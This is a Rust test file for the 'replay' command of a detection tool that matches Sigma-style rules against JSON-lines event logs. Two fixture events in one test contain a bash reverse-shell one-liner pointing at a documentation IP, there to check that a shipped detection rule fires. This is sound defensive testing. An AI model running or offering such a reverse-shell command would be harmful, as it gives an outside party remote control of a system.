//! `lanner replay`: rules against lines of events.

use std::io::Cursor;
use std::path::Path;

use lanner::cli::replay::{Counts, Replay, ReplayArgs};
use lanner::cli::rules::Format;
use lanner::detect::{self, RuleSet, Schema, Source, shipped};

use super::declared;
use crate::support::program::{lanner_in, stderr, stdout};

struct Outcome {
    counts: Counts,
    alerts: Vec<serde_json::Value>,
    errors: String,
}

fn replay(set: &RuleSet, open: bool, lines: &[u8]) -> Outcome {
    let (mut out, mut errors) = (Vec::new(), Vec::new());
    let replay =
        Replay { set, open, format: Format::Json, name: Path::new("events.jsonl"), time_field: None, profile: None };
    let counts = replay.all(&mut Cursor::new(lines), &mut out, &mut errors).expect("memory takes all");
    let alerts = String::from_utf8(out).expect("alerts are text");
    let alerts = alerts.lines().map(|line| serde_json::from_str(line).expect("alerts are JSON")).collect();
    Outcome { counts, alerts, errors: String::from_utf8(errors).expect("messages are text") }
}

fn foreign(rule: &str) -> RuleSet {
    detect::load(&[Source::new("rule.yml", rule)], &Schema::open()).unwrap_or_else(|found| panic!("{}", found[0]))
}

const RULE: &str = "title: Odd parent\nid: 6f3c2a5e-0000-4000-8000-000000000001\nlevel: high\n\
    tags: [attack.t1059, atlas.aml.t0050]\nlogsource: {product: windows}\n\
    detection: {s: {process.parent.name: node}, condition: s}\n";

#[test]
fn foreign_rules_meet_foreign_events() {
    let lines = b"{\"process\": {\"parent\": {\"name\": \"NODE\"}}}\n\n{\"process.parent.name\": \"bash\"}\r\n{\"process.parent.name\": [\"x\", \"node\"]}";
    let outcome = replay(&foreign(RULE), true, lines);
    assert_eq!(outcome.counts, Counts { events: 3, alerts: 2, unreadable: 0, untimed: 3 });
    let expected = serde_json::json!({
        "event_index": 0, "line": 1, "rule": "6f3c2a5e-0000-4000-8000-000000000001", "title": "Odd parent", "severity": "high",
        "atlas": ["AML.T0050"]
    });
    assert_eq!(outcome.alerts[0], expected);
    // An empty line is a line: indexes stay those of the file.
    assert_eq!(outcome.alerts[1]["event_index"], 3);
}

#[test]
fn rules_without_an_id_go_by_their_title() {
    let set = foreign("title: T\nlogsource: {category: c}\ndetection: {s: {f: 1}, condition: s}\n");
    let outcome = replay(&set, true, b"{\"f\": 1}\n");
    assert_eq!(outcome.alerts[0]["rule"], "T");
    assert_eq!(outcome.alerts[0]["severity"], "medium");
}

#[test]
fn our_events_choose_their_rules_by_category() {
    let set = detect::load(&shipped::sources(), &declared()).unwrap();
    let lines = [
        r#"{"event.category": "training_log", "event.dataset": "kubernetes", "log.line": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}"#,
        r#"{"event.category": "model_registry", "log.line": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}"#,
        r#"{"event.category": "model_registry", "event.action": "artifact.tampered", "@timestamp": "2026-11-22T18:00:00Z"}"#,
    ];
    let outcome = replay(&set, false, lines.join("\n").as_bytes());
    let rules: Vec<_> =
        outcome.alerts.iter().map(|alert| (alert["event_index"].as_u64(), alert["rule"].as_str())).collect();
    assert_eq!(rules, [(Some(0), Some("TRN-004")), (Some(2), Some("REG-001"))]);
    assert_eq!(outcome.counts.unreadable, 0);
}

#[test]
fn bad_lines_are_reported_and_the_others_go_on() {
    let set = detect::load(&shipped::sources(), &declared()).unwrap();
    let lines = b"not json\n[1]\n{\"f\": 1}\n{\"event.category\": \"weather\"}\n\xff\xfe\n{\"event.category\": \"model_registry\", \"event.action\": \"artifact.tampered\"}\n";
    let outcome = replay(&set, false, lines);
    assert_eq!(outcome.counts, Counts { events: 1, alerts: 1, unreadable: 5, untimed: 1 });
    assert_eq!(outcome.alerts[0]["event_index"], 5);
    for (line, reason) in
        [(1, "no JSON"), (2, "an event is a JSON object"), (3, "--open-schema"), (4, "`weather`"), (5, "no JSON")]
    {
        let place = format!("events.jsonl:{line}: ");
        let found = outcome.errors.lines().find(|error| error.starts_with(&place));
        assert!(found.is_some_and(|error| error.contains(reason)), "{place}{reason} in\n{}", outcome.errors);
    }
}

#[test]
fn lines_that_are_too_long_are_reported_not_kept() {
    let set = foreign(RULE);
    let mut lines = vec![b'x'; (16 << 20) + 1];
    lines.extend_from_slice(b"\n{\"process.parent.name\": \"node\"}\n");
    let outcome = replay(&set, true, &lines);
    assert_eq!(outcome.counts, Counts { events: 1, alerts: 1, unreadable: 1, untimed: 1 });
    assert!(outcome.errors.contains("events.jsonl:1: the line is longer than"));
}

#[test]
fn the_verb_ends_with_3_for_a_rule_that_does_not_load() {
    let folder = tempfile::tempdir().unwrap();
    let (rule, events) = (folder.path().join("rule.yml"), folder.path().join("events.jsonl"));
    let run = |text: &str| {
        std::fs::write(&rule, text).unwrap();
        std::fs::write(&events, "{\"f\": 1}\n").unwrap();
        lanner::cli::replay::run(&args_of(&rule, &events)).map(|code| format!("{code:?}"))
    };
    let code = |number: u8| format!("{:?}", std::process::ExitCode::from(number));
    assert_eq!(run("title: T\n").unwrap(), code(3));
    assert_eq!(run(RULE).unwrap(), code(0));
    std::fs::remove_file(&rule).unwrap();
    assert!(lanner::cli::replay::run(&args_of(&rule, &events)).is_err());
}

fn args_of(rule: &Path, events: &Path) -> ReplayArgs {
    let rule = rule.display().to_string();
    let line = ["replay", "--open-schema", "--format", "json", "--rules", &rule, &events.display().to_string()];
    <Line as clap::Parser>::try_parse_from(line).unwrap_or_else(|error| panic!("{error}")).args
}

#[derive(clap::Parser)]
struct Line {
    #[command(flatten)]
    args: ReplayArgs,
}

#[test]
fn the_events_are_not_taken_for_rules() {
    let line = ["replay", "--rules", "a", "--rules", "b", "events.jsonl"];
    let args = <Line as clap::Parser>::try_parse_from(line).unwrap_or_else(|error| panic!("{error}")).args;
    assert_eq!(args.rules, [Path::new("a"), Path::new("b")]);
    assert_eq!(args.events, Path::new("events.jsonl"));
    assert!(!args.open_schema && args.format == Format::Text);
}

/// A typo in `--time-field` must not pass for events a second apart.
#[test]
fn times_that_cannot_be_read_are_told() {
    let folder = tempfile::tempdir().unwrap();
    let path = |name: &str| folder.path().join(name);
    let rules = "title: A\nname: a\nlogsource: {category: x}\ndetection: {s: {f: 1}, condition: s}\n---\n\
        title: Three\ncorrelation: {type: event_count, rules: [a], timespan: 10s, condition: {gte: 3}}\n";
    std::fs::write(path("r.yml"), rules).unwrap();
    let hours = |hour: &u32| format!("{{\"f\": 1, \"ts\": \"2026-01-01T{hour:02}:00:00Z\"}}\n");
    std::fs::write(path("e.jsonl"), [0, 5, 9].iter().map(hours).collect::<String>()).unwrap();
    let run = |more: &[&str]| {
        let asked = [&["replay", "--open-schema", "--rules", "r.yml"], more, &["e.jsonl"]].concat();
        let done = lanner_in(folder.path(), &asked);
        assert_eq!(done.status.code(), Some(0), "{}", stderr(&done));
        stderr(&done)
    };
    let warning = "warning: 3 of 3 events have no time in";
    assert!(run(&["--time-field", "tss"]).contains(&format!("{warning} `tss`")));
    assert!(run(&[]).contains(&format!("{warning} `@timestamp` or `time`")));
    let right = run(&["--time-field", "ts"]);
    assert!(right.contains("3 events, 0 alerts") && !right.contains("warning"), "{right}");
}

#[test]
fn rules_are_replayed_as_overrides_change_them() {
    let folder = tempfile::tempdir().unwrap();
    let path = |name: &str| folder.path().join(name);
    std::fs::write(path("r.yml"), RULE).unwrap();
    std::fs::write(path("o.yml"), "overrides:\n  - {title: Odd parent, level: low, reason: ours}\n").unwrap();
    std::fs::write(path("e.jsonl"), "{\"process.parent.name\": \"node\"}\n").unwrap();
    let asked = ["replay", "--open-schema", "--rules", "r.yml", "--overrides", "o.yml", "e.jsonl"];
    let done = lanner_in(folder.path(), &asked);
    assert_eq!(stdout(&done), "line 1: 6f3c2a5e-0000-4000-8000-000000000001 low Odd parent\n", "{}", stderr(&done));
    // So are foreign rules looked at.
    let check = lanner_in(folder.path(), &["rules", "check", "--open-schema", "--rules", "r.yml"]);
    assert_eq!(check.status.code(), Some(0), "{}", stdout(&check));
}
